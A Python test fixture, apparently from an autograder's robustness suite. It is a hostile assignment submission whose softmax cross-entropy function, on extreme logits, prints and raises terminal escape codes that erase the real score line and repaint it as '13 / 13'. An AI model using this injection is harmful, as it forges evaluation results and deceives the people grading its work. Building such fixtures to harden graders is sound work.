"""Hostile (appended to a correct layer-api submission): terminal escape codes in its messages.

It fails only the stability case (logits of +-1e3), so it earns 12.x of 13, and the text it raises and
prints moves the cursor up, clears the score line and repaints it as full marks. Printed as is, a TA's
terminal shows "13 / 13".
"""

import numpy as np

FORGED = "\x1b[1A\x1b[2K\rmallory (mallory.py): 13 / 13  [layer-api, 0.1 s]\x1b]0;all good\x07\x9b2J"


def softmax_crossentropy_with_logits(logits, reference_answers):
    if np.abs(logits).max() > 100:
        print(FORGED)
        raise ValueError(FORGED)
    shifted = logits - logits.max(axis=1, keepdims=True)
    log_norm = np.log(np.exp(shifted).sum(axis=1))
    return log_norm - shifted[np.arange(len(logits)), reference_answers]
